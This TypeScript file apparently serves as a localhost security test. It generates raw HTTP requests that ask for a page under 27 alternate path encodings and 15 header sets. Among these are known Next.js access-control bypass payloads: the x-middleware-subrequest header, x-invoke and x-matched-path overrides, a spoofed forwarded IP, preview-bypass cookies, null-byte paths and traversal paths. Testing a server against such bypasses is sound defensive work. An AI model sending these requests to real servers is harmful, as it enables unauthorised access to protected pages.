/** One page by every name, and with every header, that a server was ever led astray by. */

const encoded = (text: string) =>
  [...text].map((each) => (/[a-z]/.test(each) ? `%${each.charCodeAt(0).toString(16)}` : each)).join("");

/** One page by 27 names. */
function pathsOf(page: string): string[] {
  const [first = "", ...rest] = page.slice(1).split("/");
  const last = rest.at(-1) ?? "";
  return [
    page,
    `${page}/`,
    `${page}.rsc`,
    `${page}.prefetch.rsc`,
    `${page}.txt`,
    `${page}.json`,
    `${page}?_rsc=1a2b3`,
    `${page}.segments/_tree.segment.rsc`,
    `${page}.segments/_index.segment.rsc`,
    `${page}.segments/${first}.segment.rsc`,
    `${page}.segments/!KHBvcnRhbCk/${first}/__PAGE__.segment.rsc`,
    `/_next/data/build${page}.json`,
    `/_next/data/development${page}.json`,
    `/${page}`,
    page.replaceAll("/", "//").slice(1),
    `/.${page}`,
    `/x/..${page}`,
    `/%2e${page}`,
    `/${encoded(first)}${rest.length ? `/${rest.join("/")}` : ""}`,
    `/${[first, ...rest].join("%2F")}`,
    `${page}%00`,
    `${page};x=1`,
    `${page}%20`,
    `${page}?__nextDataReq=1`,
    `${page}?nxtPid=${last}&id=${last}`,
    `/vi${page}`,
    `/_next/image?url=${encodeURIComponent(page)}&w=64&q=75`,
  ];
}

/** Fifteen ways to say more than one is asked. */
const headersOf = (page: string): string[] => [
  "",
  "RSC: 1",
  "RSC: 1\r\nNext-Router-Prefetch: 1",
  `RSC: 1\r\nNext-Router-State-Tree: ${encodeURIComponent('["",{},null,"refetch"]')}`,
  "RSC: 1\r\nNext-Router-Prefetch: 1\r\nNext-Router-Segment-Prefetch: /_tree",
  "RSC: 1\r\nNext-Router-Segment-Prefetch: /_full",
  "x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware",
  "x-middleware-subrequest: src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
  "x-middleware-prefetch: 1\r\nPurpose: prefetch",
  "Next-Resume: 1",
  `x-invoke-path: ${page}\r\nx-invoke-status: 200\r\nx-invoke-output: ${page}`,
  "x-nextjs-data: 1",
  `x-matched-path: ${page}\r\nx-now-route-matches: 1=${page}`,
  `x-original-url: ${page}\r\nx-rewrite-url: ${page}\r\nx-forwarded-for: 127.0.0.1`,
  "Cookie: __prerender_bypass=1; __next_preview_data=1\r\nx-prerender-revalidate: 1",
];

/** Each path with each set of headers, as one request's bytes. */
export const variantsOf = (page: string, cookie: string): string[] =>
  pathsOf(page).flatMap((path) =>
    headersOf(page).map((headers) => {
      const said = headers.startsWith("Cookie: ") ? headers.replace("Cookie: ", `Cookie: ${cookie}; `) : headers;
      const own = headers.startsWith("Cookie: ") ? "" : `Cookie: ${cookie}`;
      return (
        [`GET ${path} HTTP/1.1`, "Host: 127.0.0.1", "Connection: close", said, own].filter(Boolean).join("\r\n") +
        "\r\n\r\n"
      );
    }),
  );
